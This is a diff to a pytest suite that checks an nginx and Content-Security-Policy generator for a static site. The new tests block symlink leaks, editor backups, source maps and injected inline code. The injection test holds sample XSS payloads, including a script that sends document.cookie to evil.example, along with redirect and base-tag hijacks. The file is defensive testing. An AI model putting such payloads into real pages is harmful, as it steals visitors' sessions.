@@ -181,6 +181,13 @@ def served_site(site) -> Path:
             os.chmod(os.path.join(folder, name), 0o644)
     (target / ".env").write_text("SECRET=1\n", encoding="utf-8")
     (target / ".env").chmod(0o644)
+    secret = holder / "secret.txt"  # readable by nginx, but outside the site: a symlink must not publish it
+    secret.write_text("SECRET=2\n", encoding="utf-8")
+    secret.chmod(0o644)
+    (target / "leak.txt").symlink_to(secret)
+    for name in ("index.md~", "notes.bak", ".page.md.swp", "x.orig"):
+        (target / name).write_text("backup\n", encoding="utf-8")
+        (target / name).chmod(0o644)
     yield target
     shutil.rmtree(holder, ignore_errors=True)
 
@@ -254,8 +261,44 @@ def test_render_refuses_inline_code_hashes_cannot_allow(tmp_path):
         render_nginx.build_csp(tmp_path)
     assert "script-src 'self' 'unsafe-inline'" in render_nginx.build_csp(tmp_path, "unsafe-inline")
     (tmp_path / "index.html").write_text('<p style="color: red">x</p>', encoding="utf-8")
-    assert f"style-src 'self' 'unsafe-hashes' {render_nginx.csp_hash('color: red')};" in \
+    with pytest.raises(SystemExit, match="style attribute"):
         render_nginx.build_csp(tmp_path)
+
+
+@pytest.mark.parametrize("injected,reason", [
+    ("<script>fetch('https://evil.example/?' + document.cookie)</script>", "unreviewed inline script"),
+    ("<style>body { display: none }</style>", "unreviewed inline style"),
+    ('<meta http-equiv="Refresh" content="0; url=https://evil.example/">', "meta http-equiv=refresh"),
+    ('<base href="https://evil.example/">', "<base> tag"),
+    ('<a href=" javascript:alert(1)">x</a>', "javascript: URL"),
+])
+def test_render_refuses_a_site_with_unreviewed_or_active_inline_code(site, tmp_path, injected, reason):
+    copy = tmp_path / "site"
+    shutil.copytree(site, copy)
+    page = copy / PLAYBOOK / "index.html"
+    page.write_text(page.read_text(encoding="utf-8").replace("</article>", injected + "</article>", 1),
+                    encoding="utf-8")
+    with pytest.raises(SystemExit, match=re.escape(reason)):
+        render_nginx.build_csp(copy)
+
+
+def test_every_inline_script_of_the_build_is_reviewed_and_the_list_has_no_stale_entry(site):
+    """A new inline script in the theme or the handbook fails here until a person reviews and lists it."""
+    found = render_nginx.scan_site(site)
+    reviewed = render_nginx.reviewed_inline()
+    assert found.problems == []
+    assert found.script_hashes == set(reviewed["scripts"]), "update deploy/csp-inline.json after review"
+    assert found.style_element_hashes == set(reviewed["styles"])
+    assert found.style_attribute_hashes == set()
+    assert all(reviewed["scripts"].values())  # each says what emits it
+
+
+def test_hsts_only_in_tls_mode(served_site):
+    live = [line for line in render_nginx.render_site_conf(served_site, "8080").splitlines()
+            if not line.lstrip().startswith("#")]
+    assert not any("Strict-Transport-Security" in line for line in live)
+    assert 'add_header Strict-Transport-Security "max-age=31536000" always;' in \
+        render_nginx.render_site_conf(served_site, "8080", hsts=True)
 
 
 def test_csp_allows_exactly_the_inline_scripts_of_the_build(open_server, served_site):
@@ -268,7 +311,7 @@ def test_csp_allows_exactly_the_inline_scripts_of_the_build(open_server, served_
                 inline.add(body)
     assert inline, "Material's pages always carry inline scripts"
     assert set(directives["script-src"]) == {"'self'"} | {render_nginx.csp_hash(s) for s in inline}
-    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
+    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy and "'unsafe-hashes'" not in policy
     assert directives["object-src"] == ["'none'"]
     assert directives["frame-ancestors"] == ["'none'"]
     assert directives["worker-src"] == ["'self'"]
@@ -350,6 +393,14 @@ def test_missing_pages_redirects_and_dotfiles(open_server, served_site):
     assert redirect.status == 301
     assert redirect.header("Location") == "/" + PLAYBOOK  # relative: right behind any proxy
     assert open_server.get(".env").status == 404
+
+
+def test_symlinks_backups_and_source_maps_are_never_served(open_server, served_site):
+    for name in ("leak.txt", "index.md~", "notes.bak", ".page.md.swp", "x.orig"):
+        assert open_server.get(name).status == 404, name
+    maps = sorted(served_site.rglob("*.map"))
+    assert maps, "Material ships source maps; nginx must refuse them"
+    assert open_server.get(maps[0].relative_to(served_site).as_posix()).status == 404
 
 
 # --------------------------------------------------------------------------- access control
